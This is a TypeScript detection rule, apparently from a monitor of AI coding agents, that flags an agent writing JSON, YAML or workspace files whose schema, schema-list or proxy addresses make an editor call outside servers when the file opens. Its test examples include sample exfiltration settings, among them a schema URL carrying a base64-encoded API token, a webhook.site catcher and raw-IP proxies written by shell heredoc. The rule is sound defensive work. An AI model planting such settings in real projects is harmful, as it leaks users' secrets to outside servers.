import type { Severity } from '../contract/finding.ts';
import type { EventRule, Match } from './rule.ts';
import { decodedTexts } from './shared/decode-text.ts';
import { describeCommand } from './shared/commands.ts';
import { classifyHost, isLocalHost, parseUrl, riskyDestination } from './shared/hosts.ts';
import { excerptOf, onCall } from './shared/on-call.ts';
import { pathUses } from './shared/path-uses.ts';
import { isKnownApi } from './shared/sends.ts';
import { unlessAsked } from './shared/weigh.ts';
import { writtenText } from './shared/written-text.ts';

export const sendIdeFeature: EventRule = {
  on: 'event',
  id: 'send.ide-feature',
  code: 'B-19',
  title: 'File made to call out when it is opened',
  severity: 'medium',
  confidence: 'medium',
  why: 'Editors fetch the schema, the picture or the proxy a file names, without asking. Data written into such an address leaves when the file is opened.',
  triage: 'Look at the address in the file. Does it carry something, and whose server is it?',
  advice: 'Take the address out before somebody opens the file.',
  falsePositives: [
    'Schemas of the tools of the project (not reported).',
    'A proxy you asked for (reported as low).',
  ],
  references: ['https://attack.mitre.org/techniques/T1567/', 'https://atlas.mitre.org/techniques/AML.T0086'],
  taxonomies: { attack: ['T1567'], atlas: ['AML.T0086'], owasp: ['ASI02'] },
  bundles: ['DLP'],
  trigger: { writes: ['editor-task'], signs: ['remote-schema'] },
  match: onCall((event, context) => {
    const found: Match[] = [];
    for (const use of pathUses(event, context)) {
      if ((use.how !== 'write' && use.how !== 'append') || !OPENED.test(use.path)) continue;
      const said = callsOut(
        writtenText(event, use.command),
        /\.vscode|\/Code\/|\.code-workspace|cursor/i.test(use.path),
      );
      if (said === undefined) continue;
      found.push({
        subject: `${use.path} to ${said.host}`,
        detail: `The agent wrote ${use.path}, which makes an editor call ${said.host}${said.why}.`,
        severity: unlessAsked(said.severity, context, [said.host, 'proxy']),
        excerpt: use.command === undefined ? excerptOf(event) : describeCommand(use.command),
      });
    }
    return found.slice(0, 4);
  }),
  examples: {
    hit: [
      {
        name: 'data in the schema',
        calls: [
          {
            write: '/home/dev/app/data.json',
            content: '{"$schema":"https://s.example.net/x.json?d=QVBJX1RPS0VOPWFiY2RlZjEyMzQ1Njc4OTA="}',
          },
        ],
      },
      {
        name: 'schema at a catcher',
        calls: [
          { write: '/home/dev/app/a.json', content: '{"$schema": "https://webhook.site/0f3a/x.json"}' },
        ],
      },
      {
        name: 'schema at a raw address',
        calls: [{ shell: `echo '{"$schema":"http://203.0.113.9/x.json"}' > .vscode/settings.json` }],
      },
      {
        name: 'proxy of the editor',
        calls: [
          {
            write: '/home/dev/app/.vscode/settings.json',
            content: '{"http.proxy":"http://proxy.example.net:8080","http.proxyStrictSSL":false}',
          },
        ],
      },
      {
        name: 'workspace that calls out',
        calls: [
          {
            write: '/home/dev/app/app.code-workspace',
            content:
              '{"settings":{"json.schemas":[{"url":"https://s.example.net/?w=d29ya3NwYWNlOiBhcHAgdXNlcjogZGV2IGhvc3Q6IHgx"}]}}',
          },
        ],
      },
      {
        name: 'by the shell',
        calls: [{ shell: `cat > .vscode/settings.json <<'E'\n{"http.proxy":"http://203.0.113.9:3128"}\nE` }],
      },
    ],
    miss: [
      {
        name: 'schema store',
        guards: 'known schemas',
        calls: [
          {
            write: '/home/dev/app/tsconfig.json',
            content: '{"$schema":"https://json.schemastore.org/tsconfig"}',
          },
        ],
      },
      {
        name: 'schema of a tool',
        guards: 'schemas of tools',
        calls: [
          {
            write: '/home/dev/app/biome.json',
            content: '{"$schema":"https://biomejs.dev/schemas/2.0.0/schema.json"}',
          },
        ],
      },
      {
        name: 'local schema',
        guards: 'schemas of the project',
        calls: [{ write: '/home/dev/app/a.json', content: '{"$schema":"./schema.json"}' }],
      },
      {
        name: 'editor settings',
        guards: 'ordinary settings',
        calls: [
          {
            write: '/home/dev/app/.vscode/settings.json',
            content: '{"editor.formatOnSave":true,"eslint.workingDirectories":["web"]}',
          },
        ],
      },
      {
        name: 'addresses in data',
        guards: 'data of the project',
        calls: [
          { write: '/home/dev/app/links.json', content: '{"url":"https://blog.example.net/?utm_source=a"}' },
        ],
      },
      {
        name: 'proxy of this machine',
        guards: 'debug proxies',
        calls: [
          { write: '/home/dev/app/.vscode/settings.json', content: '{"http.proxy":"http://127.0.0.1:8080"}' },
        ],
      },
      {
        name: 'other files',
        guards: 'code',
        calls: [{ write: '/home/dev/app/src/a.ts', content: 'const s = "$schema";' }],
      },
    ],
  },
};

const OPENED = /\.(?:json|jsonc|json5|code-workspace|ya?ml)$/i;
const REFERENCE =
  /"(?:\$schema|json\.schemas|url|uri|http\.proxy|workbench\.[\w.]*(?:image|font|url)|editor\.fontFamily|extensions\.gallery|update\.url|terminal\.integrated\.env[\w.]*)"\s*:\s*"(https?:\/\/[^"\s]{3,2000})"/g;

interface Said {
  readonly host: string;
  readonly why: string;
  readonly severity: Severity;
}

function callsOut(text: string, editor: boolean): Said | undefined {
  for (const match of text.slice(0, 65_536).matchAll(REFERENCE)) {
    const address = match[1] ?? '';
    const url = parseUrl(address);
    if (url === undefined || isLocalHost(url.host)) continue;
    const key = /^"([^"]+)"/.exec(match[0])?.[1] ?? '';
    if ((key === 'url' || key === 'uri') && !editor) continue;
    if (decodedTexts(`${url.query} ${url.path}`).length > 0)
      return { host: url.host, why: ' with data in the address', severity: 'high' };
    if (key === 'http.proxy')
      return { host: url.host, why: ' for everything it fetches', severity: 'medium' };
    if (isKnownApi(url.host)) continue;
    if (riskyDestination(url.host, url.path) !== undefined || classifyHost(url.host) === 'public-ip')
      return { host: url.host, why: '', severity: 'medium' };
  }
  return undefined;
}
